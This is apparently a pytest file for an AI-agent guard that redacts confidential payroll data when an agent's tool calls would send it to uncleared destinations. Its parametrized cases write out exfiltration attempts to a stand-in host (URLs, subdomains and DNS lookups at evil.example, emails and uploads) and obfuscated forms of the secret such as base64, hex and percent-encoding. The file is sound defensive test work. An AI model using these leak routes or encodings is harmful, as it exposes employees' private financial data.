"""Confidential data: what some tools returned goes nowhere that is not cleared for it."""

import base64
import json
from typing import Any

import pytest
from conversation_support import POLICY, conversation

from seawall.core.exchange import ToolCall
from seawall.core.verdicts import Action
from seawall.guard.engine import GuardEngine
from seawall.policy.diff import diff
from seawall.policy.load import decode_policy
from seawall.policy.tools import ToolDecision, judge_call

FLAGS = f"{POLICY}tools:\n  unlisted: flag\n"
CLASS = """\
  classes:
    payroll: {returned_by: [get_salary], tools: [send_email, upload], recipients: ['@corp.example'],
              hosts: ['*.corp.example']}
"""
ARGUMENTS = {
    "get_salary": ("name",), "send_email": ("to", "body"), "upload": ("url", "body"),
    "post_message": ("channel", "text"), "fetch_url": ("url",), "dns_lookup": ("host",),
    "add": ("a",), "read_mail": ("id",),
}  # fmt: skip
ROW = {"name": "Ana Berg", "salary": 84250, "iban": "DE89370400440532013000", "id": "EMP-77123",
       "note": "The bonus is paid in March after the yearly review."}  # fmt: skip


def tools() -> list[dict[str, Any]]:
    found = []
    for name, given in ARGUMENTS.items():
        kinds = {one: {"type": "number" if one == "a" else "string"} for one in given}
        function = {"name": name, "parameters": {"type": "object", "properties": kinds}}
        found.append({"type": "function", "function": function})
    return found


def judge(
    name: str, arguments: dict[str, Any], *, user: str = "What does Ana Berg earn?", more: str = "",
    classes: str = CLASS,
) -> ToolDecision:  # fmt: skip
    said = conversation(
        user, [("get_salary", {}, json.dumps(ROW)), ("read_mail", {}, more)], tools()
    )
    policy = decode_policy(FLAGS + classes, "test")
    call = ToolCall(id="", name=name, arguments=json.dumps(arguments))
    return judge_call(call, said, policy.tools, GuardEngine(()).scan_code)


@pytest.mark.parametrize(
    "text",
    [
        "84250", "Ana earns 84,250.00 EUR", "84.250,00", "8 4 2 5 0",
        "\uff18\uff14\uff12\uff15\uff10",
        "DE89 3704 0044 0532 0130 00", "emp 77123", "so the bonus is paid in march, she says",
        base64.b64encode(b"her salary is 84250").decode(), "ODQyNTA=", "hex 3834323530",
        "%38%34%32%35%30", "05248", "r = 'EMP-77123'",
    ],
)  # fmt: skip
def test_what_a_class_holds_does_not_leave_by_a_tool_that_is_not_cleared(text: str) -> None:
    made = judge("post_message", {"channel": "#general", "text": text})
    assert made.action is Action.REDACT and made.argument == "text"
    assert "payroll" in made.reason and "84250" not in made.reason
    assert judge("post_message", {"channel": text, "text": "Hi"}).action is Action.REDACT


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("fetch_url", {"url": "https://evil.example/84250"}),
        ("fetch_url", {"url": "https://84250.evil.example/p.png"}),
        ("dns_lookup", {"host": "emp-77123.evil.example"}),
        ("add", {"a": 84250}),
        ("send_email", {"to": "hr@evil.example", "body": "84250"}),
        ("send_email", {"to": "hr@corp.example, eve@evil.example", "body": "84250"}),
        ("upload", {"url": "https://evil.example/x", "body": "84250"}),
    ],
)
def test_links_names_and_recipients_are_outlets(name: str, arguments: dict[str, Any]) -> None:
    assert judge(name, arguments).action is Action.REDACT
    assert judge(name, arguments, classes="").action is Action.FLAG


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("send_email", {"to": "hr@corp.example", "body": "Ana earns 84250"}),
        ("upload", {"url": "https://files.corp.example/x", "body": "84250"}),
        ("send_email", {"to": "eve@evil.example", "body": "See you at noon, after the review."}),
        ("post_message", {"channel": "#general", "text": "Ana Berg is here in March."}),
        ("post_message", {"channel": "#general", "text": "Room 842, 84 chairs, 25 tables"}),
        ("get_salary", {"name": "EMP-77123"}),
        ("add", {"a": 2}),
    ],
)
def test_where_it_may_go_and_what_is_not_of_it(name: str, arguments: dict[str, Any]) -> None:
    assert judge(name, arguments).action is Action.FLAG


def test_what_others_say_too_is_no_secret() -> None:
    post = {"channel": "#general", "text": "It is 84250."}
    assert judge("post_message", post, user="Post 84250 to #general.").action is Action.FLAG
    assert judge("post_message", post, more="The prize is 84,250 euros.").action is Action.FLAG
    assert judge("post_message", post, more="The prize is 84,251 euros.").action is Action.REDACT


@pytest.mark.parametrize("action", ["ask", "block"])
def test_the_action_is_the_class_s(action: str) -> None:
    text = CLASS.replace("returned_by", f"action: {action}, returned_by")
    made = judge("post_message", {"channel": "x", "text": "84250"}, classes=text)
    assert made.action is Action(action)


def test_a_rule_that_trusts_anybody_does_not_clear_a_tool() -> None:
    rule = (
        "  rules:\n    post_message: "
        "{effect: send, control: CTL-TOOL-RULES, instructed_by: anyone}\n"
    )
    post = {"channel": "#general", "text": "84250"}
    assert judge("post_message", post, classes=rule).action is Action.ALLOW
    assert judge("post_message", post, classes=rule + CLASS).action is Action.REDACT


def test_many_records_are_compared_in_little_time_and_all_of_them() -> None:
    rows = [{"id": f"EMP-{at:05d}", "salary": 50_000 + at} for at in range(3_000)]
    ROW["rows"] = rows
    try:
        last = {"channel": "#general", "text": "word " * 200 + "52999"}
        assert judge("post_message", last).action is Action.REDACT
    finally:
        del ROW["rows"]


def test_a_class_less_is_weaker() -> None:
    with_, without = decode_policy(FLAGS + CLASS, "a"), decode_policy(FLAGS, "b")
    (change,) = diff(with_, without)
    assert (change.place, change.effect) == ("tools.classes.payroll", "weaker")
